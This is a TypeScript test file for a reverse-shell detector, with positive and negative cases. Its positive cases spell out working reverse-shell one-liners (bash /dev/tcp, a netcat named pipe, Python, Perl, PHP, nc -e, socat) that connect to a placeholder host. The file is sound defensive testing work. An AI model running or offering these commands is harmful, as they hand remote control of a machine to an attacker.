import { testDetector } from '../detectors/case-table.ts';
import { executed, process } from '../detectors/sample-events.ts';
import { codeReverseShell } from './code-reverse-shell.ts';

const run = (...args: string[]) => executed(process(args, '/usr/bin/bash'));
const python =
  'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",9));os.dup2(s.fileno(),0);pty.spawn("sh")';

testDetector(codeReverseShell, [
  {
    why: 'bash to /dev/tcp',
    event: run('/bin/bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'),
    finds: 'shell with /dev/tcp',
  },
  {
    why: 'a pipe that comes back',
    event: run('/bin/sh', '-c', 'mkfifo /tmp/f; cat /tmp/f | sh | nc 192.0.2.1 9 > /tmp/f'),
    finds: 'shell over a named pipe',
  },
  { why: 'Python', event: run('/usr/bin/python3.11', '-c', python), finds: 'Python socket' },
  {
    why: 'Perl',
    event: run('/usr/bin/perl', '-e', 'use Socket;connect(S,$x);exec("/bin/sh -i")'),
    finds: 'Perl socket',
  },
  {
    why: 'PHP',
    event: run('/usr/bin/php8.2', '-r', '$s=fsockopen("192.0.2.1",9);exec("sh <&3")'),
    finds: 'PHP socket',
  },
  {
    why: 'netcat -e',
    event: run('/usr/bin/nc.traditional', '-e', '/bin/sh', '192.0.2.1', '9'),
    finds: 'netcat with a program',
  },
  { why: 'socat', event: run('/usr/bin/socat', 'TCP:192.0.2.1:9', 'EXEC:/bin/sh'), finds: 'socat with a program' },
  { why: 'netcat that only connects', event: run('/usr/bin/nc', '-vz', 'host', '22'), finds: undefined },
  {
    why: 'a Python that only connects',
    event: run('/usr/bin/python3', '-c', 'import socket;socket.socket()'),
    finds: undefined,
  },
  { why: 'a script by its name', event: run('/bin/bash', '/usr/local/bin/backup.sh'), finds: undefined },
  { why: 'a port probe without a shell behind it', event: run('/bin/bash', '-c', 'echo ready'), finds: undefined },
]);
